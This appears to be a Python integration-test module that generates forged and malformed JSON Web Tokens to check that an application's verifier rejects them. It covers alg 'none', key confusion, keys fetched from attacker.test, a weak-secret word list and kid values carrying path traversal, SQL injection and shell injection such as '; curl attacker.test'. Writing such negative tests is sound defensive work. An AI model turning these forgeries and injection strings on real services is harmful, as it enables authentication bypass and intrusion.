"""Tokens that open nothing: forged, bent, borrowed. Each with the name of its trick.

The classes are those of RFC 8725, and of the tools that attack tokens (jwt_tool): no algorithm,
blank signatures, a public key as a shared secret, keys of the sender's own, key ids that are paths
and statements, guessed secrets, claims put in.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.integration.app.bad_claims import HEADERS, claims_against_the_rules
from tests.integration.app.issuer import PrivateKey, algorithm_of, jwk
from tests.integration.app.minting import (
    CHECKOUT_SIGNER,
    LOCAL,
    PUBLISHED,
    SHARED,
    SIGNERS,
    by_key,
    by_saying,
    by_secret,
    checkout_claims_of,
    claims_of,
    jws,
)
from tests.unit.app.signing import encoded

Forgery = tuple[str, str]

FLIPS = 12
"""How many bits of each part of each good token are turned."""

_WORDS = tuple(
    """
    secret password 123456 jwt key changeme admin test tollgate your-256-bit-secret none null
    your_jwt_secret secretkey private supersecret qwerty letmein example token default HS256
    payments your-secret-key mysecret jwtsecret s3cr3t passw0rd root 0 undefined development
    """.split()  # noqa: SIM905 - a list of thirty words
)
_KIDS: tuple[Any, ...] = (
    "../../../../dev/null",
    "/dev/null",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "x' UNION SELECT 'secret';-- -",
    "x' OR '1'='1",
    "shared'--",
    "|sleep 10",
    "$(sleep 10)",
    "; curl attacker.test",
    "http://attacker.test/key",
    "shared\x00",
    "shared ",
    "SHARED",
    "sh\u0430red",
    "",
    "checkout:",
    "checkout:c2",
    "k" * 3000,
    "{{7*7}}",
    7,
    None,
    ["shared"],
    {"kid": "shared"},
    True,
    ...,
)
_NAMES: tuple[Any, ...] = (
    *("RS256", "ES256", "PS256", "HS256", "EdDSA", "ES256K", "ES384", "ES512", "Ed25519"),
    *("hs256", "dir", "RSA-OAEP", "A256KW"),
    *("", 256, ["HS256"], {"HS256": 1}),
)
_ATTACKER: tuple[PrivateKey, ...] = (
    rsa.generate_private_key(65537, 2048),
    ec.generate_private_key(ec.SECP256R1()),
    ed25519.Ed25519PrivateKey.generate(),
)


def forgeries(tenant_id: str) -> Iterator[Forgery]:
    """All of them, against a tenant that is there."""
    claims = claims_of(tenant_id)
    yield from without_algorithm(claims)
    yield from without_signature(claims)
    yield from public_key_as_secret(claims)
    yield from own_keys(claims)
    yield from key_ids(claims)
    yield from guessed_secrets(claims)
    yield from other_algorithms(claims)
    yield from other_keys(claims)
    yield from bent(claims)
    yield from written_otherwise(claims)
    for signer in (*SIGNERS, CHECKOUT_SIGNER):
        for name, bad in claims_against_the_rules(tenant_id):
            yield f"{signer.kid}: claims {name}", signer.token(bad)
        for header in HEADERS:
            yield f"{signer.kid}: header {header}", signer.token(claims, **header)
    yield from checkout_tokens(tenant_id)


def without_algorithm(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """`alg: none`, however it is written."""
    for spelled in ("none", "None", "NONE", "nOnE", "none ", "", None, ...):
        for kid in ("shared", "rsa", "published-ec", "checkout:c1", ...):
            for signature in (b"", b"\0" * 32, b"none"):
                token = jws({"alg": spelled, "kid": kid}, claims, by_saying(signature))
                yield f"alg {spelled!r} of {kid!r}", token


def without_signature(claims: dict[str, Any]) -> Iterator[Forgery]:
    """Nothing, zeros, too little, too much, and what was signed elsewhere."""
    for signer in SIGNERS:
        head, _, signature = signer.token(claims).rpartition(".")
        other = signer.token(claims | {"sub": "user_2"}).rpartition(".")[2]
        length = len(base64.urlsafe_b64decode(signature + "=="))
        for said in (b"\0" * length, b"\xff" * length, b"\0", b"\1" * (length - 1)):
            yield f"{signer.kid}: signed with {said[:4]!r}...", f"{head}.{encoded(said).decode()}"
        for text in ("", other, signature[:-4], signature + "AAAA", signature * 2):
            yield f"{signer.kid}: signature {text[:8]}...", f"{head}.{text}"


def public_key_as_secret(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """What everybody knows, used as what nobody knows."""
    for kid, key in (LOCAL | PUBLISHED).items():
        half = key.public_key()
        pem = half.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        texts = (
            pem,
            pem.strip(),
            pem.replace(b"\n", b"\r\n"),
            half.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
            json.dumps(jwk(kid, key)).encode(),
            kid.encode(),
        )
        for text in texts:
            for digest, algorithm in (
                ("sha256", "HS256"),
                ("sha384", "HS384"),
                ("sha512", "HS512"),
            ):
                header = {"alg": algorithm, "kid": kid}
                yield (
                    f"{algorithm} with the key of {kid}",
                    jws(header, claims, by_secret(text, digest)),
                )


def own_keys(claims: dict[str, Any]) -> Iterator[Forgery]:
    """A key that the token brings with it, or says where to fetch."""
    for key in _ATTACKER:
        algorithm = algorithm_of(key)
        brought: tuple[dict[str, object], ...] = (
            {"jwk": dict(jwk("mine", key))},
            {"jku": "https://attacker.test/keys"},
            {"jku": f"{claims['iss']}/keys"},
            {"x5u": "https://attacker.test/chain.pem"},
            {"x5c": ["MIIB"]},
            {"iss": claims["iss"]},
            {},
        )
        for more in brought:
            for kid in ("mine", "rsa", "ec", "published-ed", ...):
                header: dict[str, object] = {"alg": algorithm, "kid": kid} | more
                yield (
                    f"{algorithm} of one's own as {kid!r} with {more}",
                    jws(header, claims, by_key(key)),
                )


def key_ids(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """Ids that are no ids, signed with what they might lead to."""
    for kid in _KIDS:
        for secret in (b"", b"secret", SHARED):
            header = {"alg": "HS256", "kid": kid}
            yield f"kid {str(kid)[:30]!r}", jws(header, claims, by_secret(secret))


def guessed_secrets(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """A word list, as it is and as it might have been stretched to the length that is asked for."""
    for word in ("", *_WORDS):
        stretched = (word or "\0").encode() * 40
        for kid in ("shared", "checkout:c1"):
            for secret in (word.encode(), stretched[:32], stretched[: len(SHARED)]):
                header = {"alg": "HS256", "kid": kid}
                yield f"{kid}: {word!r}", jws(header, claims, by_secret(secret))


def other_algorithms(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """Signed with the right key, by an algorithm that is not the key's."""
    for kid, key in (LOCAL | PUBLISHED).items():
        if isinstance(key, rsa.RSAPrivateKey):
            for name in ("RS384", "RS512", "PS256", "PS384", "PS512"):
                yield f"{kid}: {name}", jws({"alg": name, "kid": kid}, claims, by_key(key, name))
    for digest, algorithm in (("sha384", "HS384"), ("sha512", "HS512")):
        sign = by_secret(SHARED, digest)
        yield f"shared: {algorithm}", jws({"alg": algorithm, "kid": "shared"}, claims, sign)
    for signer in SIGNERS:
        for name in _NAMES:
            if name != signer.algorithm:
                yield f"{signer.kid}: named {name!r}", signer.token(claims, alg=name)


def other_keys(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """Signed by one who may sign, in the name of another; and signatures that once passed."""
    for signer in (*SIGNERS, CHECKOUT_SIGNER):
        for other in (*SIGNERS, CHECKOUT_SIGNER):
            if other is not signer:
                yield f"{signer.kid} as {other.kid}", signer.token(claims, kid=other.kid)
                name = f"{signer.kid} as {other.kid} and its algorithm"
                yield name, signer.token(claims, kid=other.kid, alg=other.algorithm)
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    for r, s in ((0, 0), (0, 1), (1, 0), (order, order), (order, 0), (1, 1)):
        raw = r.to_bytes(32, "big") + s.to_bytes(32, "big")
        der = encode_dss_signature(r, s)
        for said in (raw, der):
            header = {"alg": "ES256", "kid": "ec"}
            yield f"ES256 with r={r:#x} s={s:#x}", jws(header, claims, by_saying(said))


def bent(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """One bit of a good token turned: in its header, its claims, its signature."""
    draw = random.Random(8725)  # noqa: S311 - the same bits each time
    for signer in SIGNERS:
        parts = signer.token(claims).split(".")
        for at, part in enumerate(parts):
            whole = base64.urlsafe_b64decode(part + "==")
            for bit in draw.sample(range(len(whole) * 8), FLIPS):
                turned = bytearray(whole)
                turned[bit // 8] ^= 1 << bit % 8
                changed = [*parts[:at], encoded(bytes(turned)).decode(), *parts[at + 1 :]]
                yield f"{signer.kid}: bit {bit} of part {at}", ".".join(changed)


def written_otherwise(claims: Mapping[str, Any]) -> Iterator[Forgery]:
    """The same bytes in another writing, other serializations, and other kinds of token."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    for signer in SIGNERS:
        token = signer.token(claims)
        head, payload, signature = token.split(".")
        unused = {2: 4, 3: 2}.get(len(signature) % 4, 0)
        last = alphabet.index(signature[-1])
        texts = [f"{token[:-1]}{alphabet[last ^ bits]}" for bits in range(1, 1 << unused)]
        texts += [
            f"{token}=",
            f"{token}==",
            f"{token}!",
            f"{token}.",
            f".{token}",
            f"{token}.e30",
            f"{token}, {token}",
            f"{token} {token}",
            f"\t{token}",
            f"{head}.{payload}.*{signature}",
            f"{head}.{payload}.{signature[:9]}\t{signature[9:]}",
            f"{head}.{payload}",
            f"{head}..{signature}",
            f".{payload}.{signature}",
            f"{head}..{payload}..{signature}",
            f"{head}.{payload}.{signature}.{payload}.{signature}",
            json.dumps({"protected": head, "payload": payload, "signature": signature}),
            json.dumps({"payload": payload, "signatures": [{"protected": head}]}),
        ]
        for bad in texts:
            if bad != token:
                yield f"{signer.kid}: written {bad[-12:]!r}", bad


def checkout_tokens(tenant_id: str) -> Iterator[Forgery]:
    """A key of checkout tokens signs those and no others; and no other key signs those."""
    good = checkout_claims_of(tenant_id)
    for signer in SIGNERS:
        yield f"{signer.kid}: a checkout token", signer.token(good)
        yield (
            f"{signer.kid}: of our own issuer",
            signer.token(good | {"iss": "https://issuer.test"}),
        )
    for roles in (["OPERATOR"], ["ADMIN"], ["PLATFORM_ADMIN"], ["CHECKOUT", "ADMIN"], []):
        yield f"checkout key: {roles}", CHECKOUT_SIGNER.token(good | {"roles": roles})
        bare = claims_of(tenant_id, roles=roles, iss="tollgate-checkout")
        yield f"checkout key: {roles} without an order", CHECKOUT_SIGNER.token(bare)
    for order in (None, "", "*", tenant_id, [good["order"]], 7):
        yield f"checkout key: order {order}", CHECKOUT_SIGNER.token(good | {"order": order})
